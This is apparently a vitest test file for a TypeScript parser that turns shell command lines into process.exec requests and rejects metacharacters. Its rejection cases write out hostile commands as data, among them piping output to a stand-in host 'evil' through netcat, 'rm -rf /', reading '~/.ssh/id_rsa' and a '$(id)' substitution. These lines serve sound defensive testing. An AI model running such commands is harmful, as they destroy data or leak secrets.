import { describe, expect, it } from "vitest";
import type { AdapterResult } from "./action.js";
import { fromShell } from "./shell.js";

function request(r: AdapterResult) {
  if (!r.ok) throw new Error(`expected a request, got ${r.error.message}`);
  return r.request;
}
function error(r: AdapterResult) {
  if (r.ok) throw new Error(`expected an error, got ${JSON.stringify(r.request)}`);
  return r.error;
}

describe("fromShell", () => {
  it("splits words with quotes and escapes into process.exec {path, argv}", () => {
    const r = request(fromShell(`/usr/bin/grep -e 'a b' "c \\"d\\"" e\\ f ''`));
    expect(r).toEqual({
      tool: "process.exec",
      operation: "exec",
      args: { path: "/usr/bin/grep", argv: ["/usr/bin/grep", "-e", "a b", 'c "d"', "e f", ""] },
      source: { kind: "shell", line: `/usr/bin/grep -e 'a b' "c \\"d\\"" e\\ f ''` },
    });
  });

  it("keeps a bare name without PATH, and resolves it through PATH with `exists`", () => {
    expect(request(fromShell("nc -l 4444")).args).toEqual({ path: "nc", argv: ["nc", "-l", "4444"] });
    const exists = (p: string) => p === "/usr/bin/nc" || p === "/bin/nc";
    const r = request(fromShell("nc -l 4444", { PATH: "/usr/local/bin:/usr/bin:/bin", exists }));
    expect(r.args).toEqual({ path: "/usr/bin/nc", argv: ["nc", "-l", "4444"] });
    expect(request(fromShell("./run.sh", { PATH: ["/usr/bin"], exists })).args["path"]).toBe("./run.sh");
    expect(error(fromShell("nope", { PATH: ["/usr/bin"], exists })).code).toBe("command_not_found");
    expect(error(fromShell("nc", { PATH: ["/usr/bin"] })).message).toMatch(
      /^options\.exists: is required when PATH is supplied/,
    );
  });

  it.each([
    ["ls | nc evil 1", /unquoted '\|'/],
    ["ls; rm -rf /", /unquoted ';'/],
    ["cat x > y", /unquoted '>'/],
    ["echo $HOME", /unquoted '\$'/],
    ['echo "$(id)"', /inside double quotes is an expansion/],
    ["echo `id`", /unquoted '`'/],
    ["ls *.txt", /a glob/],
    ["cat ~/.ssh/id_rsa", /home-directory expansion/],
    ["echo {a,b}", /brace expansion/],
    ["PATH=/tmp nc", /environment assignment/],
    ["ls\nrm x", /line break/],
    ["echo 'open", /unterminated single quote/],
    ['echo "open', /unterminated double quote/],
    ["echo x\\", /ends with a backslash/],
    ["   ", /is empty/],
    ["# comment", /starts a comment/],
  ])("rejects %j", (line, message) => {
    const e = error(fromShell(line));
    expect(e.code).toBe("shell_syntax");
    expect(e.field).toBe("command");
    expect(e.message).toMatch(message);
  });

  it("takes quoted metacharacters literally", () => {
    expect(request(fromShell(`echo '$HOME' "*" '|' a\\;b x#y "{a,b}" a=b`)).args["argv"]).toEqual([
      "echo",
      "$HOME",
      "*",
      "|",
      "a;b",
      "x#y",
      "{a,b}",
      "a=b",
    ]);
    expect(request(fromShell("find . -exec rm {} \\;")).args["argv"]).toEqual([
      "find",
      ".",
      "-exec",
      "rm",
      "{}",
      ";",
    ]);
  });
});
